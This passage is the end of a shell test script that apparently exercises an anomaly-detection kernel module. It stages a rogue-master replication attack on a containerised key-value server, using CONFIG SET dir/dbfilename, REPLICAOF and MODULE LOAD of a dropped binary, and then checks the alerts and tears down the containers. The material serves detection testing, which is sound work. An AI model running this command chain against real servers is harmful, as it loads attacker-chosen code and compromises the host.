{ kv_cli CONFIG SET dir /tmp && kv_cli CONFIG SET dbfilename exp.so &&
	kv_cli REPLICAOF 127.0.0.1 "$RSH_PORT"; sleep 4; kv_cli REPLICAOF NO ONE
	kv_cli MODULE LOAD /tmp/exp.so; } > /tmp/i.out 2>&1
wait "$lpid"
cmp -s /bin/busybox /tmp/bundle-kv/rootfs/tmp/exp.so ||
	fail "kv: the rogue master's binary was not written: $(head -c 300 /tmp/i.out) $(tail -n 5 /tmp/kv.out)"
judge kv "binary dropped through a rogue master (REPLICAOF), MODULE LOAD"

a=$(alerts_of side)
[ "$a" = 0 ] || problem "side: the sidecar raised $a alert(s)"
note "work done: $(work_done)"
run sysanomctl status
sysanomctl alerts | tail -n 12

# shellcheck disable=SC2086 # a list of pids
kill $clients 2> /dev/null
for s in $SERVICES; do stop_container "$s"; done
# The later scenarios get their memory back (the database is ~50 MB of tmpfs).
rm -rf /tmp/bundle-web /tmp/bundle-pg /tmp/bundle-cache /tmp/bundle-kv /tmp/bundle-side
run rmmod sysanom
note "total $(elapsed)s"
echo "SUMMARY (scenario time $(elapsed)s):$summary"
[ -z "$problems" ] || fail "$(echo "$problems" | grep -c .) problem(s):$problems"
exit 0
